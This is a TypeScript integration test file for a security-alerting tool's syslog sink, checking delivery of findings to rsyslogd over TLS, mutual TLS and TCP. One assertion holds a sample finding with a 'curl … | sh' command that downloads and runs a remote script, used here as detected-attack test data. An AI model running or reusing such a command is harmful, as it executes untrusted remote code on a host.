import type { SinkConfigOf } from "@outlier/routing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { resilient } from "./resilient.ts";
import { secretResolver } from "./secrets.ts";
import { SyslogSink } from "./syslog.ts";
import { execSession, replicaDeviation, unexpectedProcess } from "./testing/findings.ts";
import { rsyslogAvailable, startRsyslog, type Rsyslog } from "./testing/rsyslog.ts";
import { deadLetters, delivery } from "./testing/sink-contract.ts";

const available = rsyslogAvailable();
if (!available) console.error("syslog.rsyslog.test: rsyslogd, rsyslog-gnutls or openssl missing; skipped (scripts/install-servers.sh installs them)");

function config(port: number, extra: Partial<SinkConfigOf<"syslog">>): SinkConfigOf<"syslog"> {
  return { kind: "syslog", host: "127.0.0.1", port, protocol: "tls", format: "cef", ...extra };
}

describe.skipIf(!available)("SyslogSink against a real rsyslogd", () => {
  let rsyslog: Rsyslog;
  beforeAll(async () => {
    rsyslog = await startRsyslog();
  }, 30_000);
  afterAll(async () => rsyslog?.stop());

  it("delivers RFC 5424 + CEF over TLS, verified against the CA, parsed by rsyslog", async () => {
    const sink = new SyslogSink(config(rsyslog.tlsPort, { ca_file: rsyslog.caFile }), secretResolver(), { hostname: "alerter-1" });
    await sink.deliver(delivery({ findings: [unexpectedProcess(), execSession()] }));
    await sink.close();
    const got = (await rsyslog.waitForMessages(2)).filter((m) => m.input === "tls");
    expect(got).toHaveLength(2);
    expect(got[0]).toMatchObject({ version: "1", pri: 34, hostname: "alerter-1", appName: "outlier", msgId: "process.unexpected", timestamp: "2024-05-01T10:00:00.123456Z" });
    expect(got[0]!.msg).toMatch(/^CEF:0\|Outlier\|Outlier\|0\.1\|process\.unexpected\|.*\|10\|rt=1714557600123 /);
    expect(got[0]!.msg).toContain("cs6=/usr/bin/curl -s http://10.0.0.9/x?a\\=1|sh");
    expect(got[1]!.msg).toContain("suser=alice@example.com");
  });

  it("presents a client certificate where rsyslog requires one (mutual TLS)", async () => {
    const files = { ca_file: rsyslog.caFile, cert_file: rsyslog.clientCertFile, key_file: rsyslog.clientKeyFile };
    const sink = new SyslogSink(config(rsyslog.mtlsPort, files), secretResolver(), { hostname: "alerter-mtls" });
    await sink.deliver(delivery({ findings: [replicaDeviation()] }));
    await sink.close();
    const got = (await rsyslog.waitForMessages(3)).filter((m) => m.input === "mtls");
    expect(got.map((m) => m.hostname)).toEqual(["alerter-mtls"]);
  });

  it("is not heard by an mTLS listener without a client certificate (syslog has no acknowledgement)", async () => {
    const sink = new SyslogSink(config(rsyslog.mtlsPort, { ca_file: rsyslog.caFile }), secretResolver(), { hostname: "alerter-nocert" });
    await sink.deliver(delivery()).catch(() => undefined);
    await sink.close();
    const got = await rsyslog.waitForMessages(99, 1_000);
    expect(got.filter((m) => m.hostname === "alerter-nocert")).toEqual([]);
  });

  it("delivers over plain TCP, and OCSF JSON with format: ocsf", async () => {
    const sink = new SyslogSink(config(rsyslog.tcpPort, { protocol: "tcp", format: "ocsf" }), secretResolver(), { hostname: "alerter-tcp" });
    await sink.deliver(delivery());
    await sink.close();
    const got = (await rsyslog.waitForMessages(4)).filter((m) => m.input === "tcp");
    expect(got).toHaveLength(1);
    expect(JSON.parse(got[0]!.msg)).toMatchObject({ class_uid: 2004, finding_info: { uid: "f-unexpected-1" } });
  });

  it("fails the TLS handshake (retryable) against a server it cannot verify, then dead-letters", async () => {
    const sink = new SyslogSink(config(rsyslog.tlsPort, {}), secretResolver(), { hostname: "alerter-untrusted" });
    const { letters, options } = deadLetters();
    await resilient(sink, { ...options, maxAttempts: 2 }).deliver(delivery());
    await sink.close();
    expect(letters).toHaveLength(1);
    expect(letters[0]!.failure).toMatchObject({ reason: "network", attempts: 2 });
    expect(letters[0]!.failure.message).toMatch(/certificate/i);
  });

  it("reconnects after the connection was closed", async () => {
    const sink = new SyslogSink(config(rsyslog.tcpPort, { protocol: "tcp" }), secretResolver(), { hostname: "alerter-reconnect" });
    await sink.deliver(delivery());
    await sink.close();
    await sink.deliver(delivery());
    await sink.close();
    const got = (await rsyslog.waitForMessages(6)).filter((m) => m.hostname === "alerter-reconnect");
    expect(got).toHaveLength(2);
  });
});
